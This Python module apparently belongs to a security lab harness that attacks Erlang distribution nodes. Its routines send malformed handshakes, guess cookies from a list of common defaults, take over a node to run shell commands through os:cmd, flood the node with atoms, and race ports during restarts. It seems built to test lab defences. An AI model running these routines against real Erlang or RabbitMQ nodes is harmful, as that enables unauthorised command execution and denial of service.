# SPDX-License-Identifier: BSD-2-Clause
"""Attacks on the distribution itself: handshakes, cookies, take-over, atoms, a race."""
import contextlib
import itertools
import select
import socket
import time

import distribution as dist
from kit.erlang import COOKIE
from kit.lab import LabError
from target import CHOSEN, NODE, WEAK, WEAK_COOKIE

_number = itertools.count(1)
ATOMS, RACE_S, WAITING_S = 200, 2.5, 0.5
COOKIES = ("cookie", "secret", "erlang", "rabbit", "riak", "vmq", "emqxsecretcookie", "nocookie",
           "mycookie", "changeme", *map(str, range(80)), WEAK_COOKIE)
PROBES = {
    "N": dist.new_name(),
    "n": dist.old_name(),
    "n, version 0": dist.old_name(version=0),
    "dynamic name": dist.new_name("client", dist.FLAGS | 1 << 33),
    "no name": dist.message(b"N"),
    "no flags": dist.new_name(flags=0),
    "no handshake": dist.message(b"\xff" * 30),
    "empty": dist.message(b""),
    "TLS": bytes.fromhex("16030100050100000103"),
}


def connect(target, attacker, address, port=NODE):
    connection = attacker.connect(address, port, target.timeout_s)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def _reaction(target, attacker, address, probe, at_once):
    """What the node does with a first message: its status, or that it hangs up."""
    with connect(target, attacker, address) as connection:
        try:
            for at in range(0, len(probe), at_once):
                connection.sendall(probe[at:at + at_once])
            if not select.select([connection], [], [], WAITING_S)[0]:
                connection.shutdown(socket.SHUT_WR)  # it waits for more
            return dist.read_message(connection).decode(errors="replace")
        except (dist.Refused, BrokenPipeError, ConnectionResetError):
            return "hung up"


def probes(at_once):
    def attack(target, attacker, address):
        seen = {name: _reaction(target, attacker, address, probe, at_once)
                for name, probe in PROBES.items()}
        answers = sum(one.startswith("s") for one in seen.values())
        return f"{len(seen)} read, {answers} answered" if answers else None
    return attack


def cookie_guessing(target, attacker, address):
    """One connection a try, the defaults first."""
    name = f"guesser{next(_number)}@x.lab"
    for tries, cookie in enumerate(COOKIES, 1):
        if _fits(target, attacker, address, cookie, name):
            return f"{cookie!r} at try {tries}"
    return None


def _fits(target, attacker, address, cookie, name):
    for _ in range(20):
        with connect(target, attacker, address, WEAK) as connection:
            try:
                dist.join(connection, cookie, name)
                return True
            except dist.Busy:
                continue
            except dist.Refused:
                return False
    raise LabError("the node is busy")


def _owned(target, session):
    """Runs a harmless command and looks whether it ran."""
    marker = target.lab.directory / f"marker{next(_number)}"
    with contextlib.suppress(TimeoutError):
        session.shell(f"echo owned > {marker}")
    return marker.exists() and marker.read_text() == "owned\n"


def take_over(target, attacker, address):
    name = f"owner{next(_number)}@x.lab"
    with dist.Session(connect(target, attacker, address), COOKIE, name) as session:
        return "os:cmd ran" if _owned(target, session) else None


def older_session(target, attacker, address):
    """A session that stood before there was a filter must not be one that it overlooks."""
    if (key := (attacker.number, address)) not in target.sessions:
        name = f"older{next(_number)}@x.lab"
        target.sessions[key] = dist.Session(connect(target, attacker, address), COOKIE, name)
        target.lab.defer(target.sessions[key].connection.close)
    return "os:cmd ran" if _owned(target, target.sessions[key]) else None


def atom_flood(target, attacker, address):
    """Names that are new: each becomes an atom, which the node never forgets."""
    with target.observer(WEAK, WEAK_COOKIE) as observer:
        before = observer.number("erlang", "system_info", "atom_count")
        with contextlib.suppress(TimeoutError):
            for _ in range(ATOMS):
                with connect(target, attacker, address, WEAK) as connection:
                    dist.challenged(connection, f"x{time.monotonic_ns()}@{next(_number)}.lab")
        grown = observer.number("erlang", "system_info", "atom_count") - before
    return f"{grown} atoms" if grown >= ATOMS // 2 else None


def race(target, attacker, address):
    """A node that starts again and again, on another port each time, and who is there first."""
    started, opened = target.restarts, set()
    deadline = time.monotonic() + RACE_S
    while time.monotonic() < deadline:
        opened |= _open_ports(attacker, address, range(CHOSEN[0], CHOSEN[1] + 1))
    if target.restarts < started + 3:
        raise LabError("the node did not restart")
    return f"{len(opened)} ports open" if opened else None


def _open_ports(attacker, address, ports):
    """One try of each port at the same time, none of which may take longer than a moment."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    poll, pending, opened = select.poll(), {}, set()
    with attacker.entered(), contextlib.ExitStack() as stack:
        for port in ports:
            one = stack.enter_context(socket.socket(family, socket.SOCK_STREAM))
            one.setblocking(False)
            if one.connect_ex((address, port)) == 0:
                opened.add(port)
            pending[one.fileno()] = (one, port)
            poll.register(one, select.POLLOUT)
        for number, _ in poll.poll(50):
            one, port = pending[number]
            if one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                opened.add(port)
    return opened
